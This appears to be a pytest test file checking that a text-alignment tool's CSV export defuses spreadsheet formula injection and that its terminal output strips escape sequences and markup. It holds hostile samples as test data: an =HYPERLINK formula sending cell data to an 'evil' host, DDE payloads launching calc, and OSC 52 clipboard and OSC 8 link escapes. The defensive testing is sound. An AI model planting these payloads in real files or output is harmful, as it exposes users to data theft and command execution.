"""Article text is data: it must never run as a formula, a terminal command or markup.

Two ways scraped text can attack the person reading it outside the reader's
own panes (issue "Hostile and broken input", part 3, non-UI side):

* **CSV formula injection.** A cell starting with ``=``, ``+``, ``-``, ``@``,
  tab or carriage return runs as a formula when the CSV is opened in a
  spreadsheet (``=HYPERLINK(...)`` exfiltration, DDE). Every text column
  that carries article- or user-supplied text, in both export formats, must be
  defused (a carriage return is shown as ``␍``, like every control
  character, and so no longer starts one); ``guard=False`` must write it verbatim.
* **Terminal injection.** ``parallax align`` prints article text to a
  terminal. A raw ESC starts a control sequence: OSC 52 writes the
  clipboard, OSC 8 makes a disguised hyperlink, CSI can clear the screen or
  recolour it; C1 ``\\x9b`` is a one-byte CSI on some terminals. And the text
  must not be parsed as Rich markup (``[bold]``, ``[link=...]``): what the
  article says is what the reader sees.
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from strategies import hostile_text, profile
from tui.cli import main
from tui.core.export import FORMULA_TRIGGERS, clean_cell, export
from tui.core.model import AlignSettings, Alignment, Annotation, Row, Sentence, Source

#: Raw bytes that a terminal acts on: C0 controls except newline, DEL and the C1 range.
TERMINAL_CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")

MARKUP = ["[bold]x[/]", "[link=http://e]y[/link]", "[red on white]z[/]", "[/]"]
ESCAPES = {
    "ansi": "\x1b[31m",
    "osc52": "\x1b]52;c;SGVsbG8=\x07",
    "osc8": "\x1b]8;;http://evil\x1b\\",
    "bel": "\x07",
    "c1": "\x9b",
    "csi-clear": "\x1b[2J",
}

#: A dangerous payload for every leading character class a spreadsheet reacts to.
FORMULA_PAYLOADS = {
    "=": '=HYPERLINK("http://evil/?x="&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


# --------------------------------------------------------------------------- CSV formula injection


def one_row(text: str, label: str, name: str = "a.txt") -> Alignment:
    """A two-source alignment whose single row holds ``text`` (the model, not ingest: any text)."""
    a = Source(id=0, name=name, label=label, text=text, sentences=(Sentence(0, 0, text, 0, len(text)),))
    b = Source(id=1, name="b.txt", label="B", text="Plain.", sentences=(Sentence(1, 0, "Plain.", 0, 6),))
    return Alignment(sources=(a, b), rows=(Row(cells=(0, 0), score=0.5),), settings=AlignSettings())


def dict_rows(alignment: Alignment, fmt: str, **kw) -> tuple[list[str], list[list[str]]]:
    buf = io.StringIO(newline="")
    export(alignment, fmt, buf, **kw)
    header, *lines = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    return header, lines


def test_formula_payloads_cover_every_trigger():
    """The table below tests every trigger export knows about (and fails if one is added untested)."""
    assert set(FORMULA_PAYLOADS) == set(FORMULA_TRIGGERS)


@pytest.mark.parametrize("guard", [True, False], ids=["guarded", "verbatim"])
@pytest.mark.parametrize("trigger", list(FORMULA_PAYLOADS), ids=repr)
@pytest.mark.parametrize("column", ["text", "label", "note", "tags", "source"])
def test_long_csv_defuses_formulas_in_every_text_column(column, trigger, guard):
    payload = FORMULA_PAYLOADS[trigger]
    text = payload if column == "text" else "Plain sentence."
    label = payload if column == "label" else "Label"
    name = payload + ".txt" if column == "source" else "a.txt"
    note = Annotation(note=payload if column == "note" else "", tags=(payload, "ok") if column == "tags" else ())
    header, lines = dict_rows(one_row(text, label, name), "long", annotations={0: note}, guard=guard)
    cell = lines[0][header.index(column)]
    value = {"tags": f"{payload}; ok", "source": name}.get(column, payload)
    assert cell == (clean_cell(value) if guard else value)
    assert not guard or not cell.startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("guard", [True, False], ids=["guarded", "verbatim"])
@pytest.mark.parametrize("trigger", list(FORMULA_PAYLOADS), ids=repr)
@pytest.mark.parametrize("column", ["text", "note", "tags", "source-header"])
def test_wide_csv_defuses_formulas_in_every_text_column(column, trigger, guard):
    payload = FORMULA_PAYLOADS[trigger]
    text = payload if column == "text" else "Plain sentence."
    name = payload + ".txt" if column == "source-header" else "a.txt"
    note = Annotation(note=payload if column == "note" else "", tags=(payload, "ok") if column == "tags" else ())
    header, lines = dict_rows(one_row(text, "L", name), "wide", annotations={0: note}, guard=guard)
    if column == "source-header":
        cell, value = header[4], name
    else:
        cell = lines[0][{"text": 4, "note": -3, "tags": -2}[column]]
        value = f"{payload}; ok" if column == "tags" else payload
    assert cell == (clean_cell(value) if guard else value)
    assert not guard or not cell.startswith(FORMULA_TRIGGERS)


@profile(0.5)
@given(st.sampled_from(FORMULA_TRIGGERS), hostile_text, st.sampled_from(["long", "wide"]))
def test_no_guarded_cell_starts_a_formula(trigger, rest, fmt):
    """Whatever follows the trigger, no cell of a guarded export starts with a formula trigger."""
    payload = trigger + rest
    alignment = one_row(payload, payload, payload + ".txt")
    note = Annotation(note=payload, tags=(payload,))
    header, lines = dict_rows(alignment, fmt, annotations={0: note})
    for cell in header + [c for line in lines for c in line]:
        assert not cell.startswith(FORMULA_TRIGGERS), f"formula cell {cell!r}"
    unguarded = dict_rows(alignment, fmt, annotations={0: note}, guard=False)[1]
    assert payload in unguarded[0], "guard=False writes text verbatim"
    assert clean_cell(payload) in lines[0]


# --------------------------------------------------------------------------- terminal injection


def run_align(capsys, texts: list[str], tmp: Path) -> tuple[int, str, str]:
    """Run ``parallax align`` on ``texts`` written as UTF-8 files; return (status, stdout, stderr)."""
    paths = []
    for i, text in enumerate(texts):
        path = tmp / f"{i}.txt"
        path.write_bytes(text.encode("utf-8"))
        paths.append(str(path))
    capsys.readouterr()
    status = main(["align", *paths, "--width", "400"])
    out, err = capsys.readouterr()
    return status, out, err


def hostile_articles(payload: str) -> list[str]:
    return [
        f"Source: Wire {payload}\n\nThe mayor said {payload} the fire was out by Tuesday.\n"
        f"Police closed the harbour road.\n",
        f"The mayor said {payload} the fire was out on Tuesday.\nThree crews were sent to the harbour.\n",
    ]


@pytest.mark.parametrize("payload", list(ESCAPES.values()), ids=list(ESCAPES))
def test_align_never_prints_raw_terminal_controls(capsys, tmp_path, payload):
    status, out, err = run_align(capsys, hostile_articles(payload), tmp_path)
    assert status == 0, err
    assert "fire was out" in out
    assert not TERMINAL_CONTROL.search(out), f"raw control reached stdout: {TERMINAL_CONTROL.findall(out)!r}"
    assert not TERMINAL_CONTROL.search(err)


@pytest.mark.parametrize("markup", MARKUP)
def test_align_prints_markup_literally(capsys, tmp_path, markup):
    status, out, err = run_align(capsys, hostile_articles(markup), tmp_path)
    assert status == 0, err
    assert f"The mayor said {markup} the fire was out" in out, "markup must be shown, not interpreted"


# capsys is function-scoped but safe to share between examples here: run_align
# drains it before and after every run, so no example sees another's output.
@settings(profile(0.3), suppress_health_check=[*profile().suppress_health_check, HealthCheck.function_scoped_fixture])
@given(st.lists(st.sampled_from([*ESCAPES.values(), *MARKUP, "\x00", "\x1b", "\x85", "\x9d", "\x7f"]),
                min_size=1, max_size=4).map("".join))
def test_align_output_is_inert_for_any_mix(capsys, payload):
    """Any mix of escapes and markup: stdout holds no control byte and shows the markup as text."""
    with tempfile.TemporaryDirectory() as tmp:
        status, out, err = run_align(capsys, hostile_articles(payload), Path(tmp))
    if status != 0:  # e.g. NUL: a binary-looking file is refused, with a clean message
        assert not TERMINAL_CONTROL.search(err)
        return
    assert not TERMINAL_CONTROL.search(out), f"raw control reached stdout: {TERMINAL_CONTROL.findall(out)!r}"
    if any(c in payload for c in "\x85\x0b\x0c"):
        return  # NEL/VT/FF are line breaks: the markup left on a line of its own is furniture, not shown
    for m in MARKUP:
        if m in payload:
            assert m in out, "markup must be shown, not interpreted"


def test_error_messages_do_not_echo_controls_from_file_names(capsys, tmp_path):
    """A hostile *file name* in a scraped folder ends up in error messages on stderr; it must be inert too."""
    folder = tmp_path / "scrape"
    folder.mkdir()
    (folder / "a.txt").write_text("The mayor said the fire was out.\n", encoding="utf-8")
    (folder / "\x1b]52;c;SGVsbG8=\x07\x1b[2J.txt").write_bytes(b"")  # empty: load fails naming it
    capsys.readouterr()
    status = main(["align", str(folder)])
    out, err = capsys.readouterr()
    assert status == 2
    assert "empty" in err
    assert not TERMINAL_CONTROL.search(err.rstrip("\n")), f"raw control reached stderr: {err!r}"
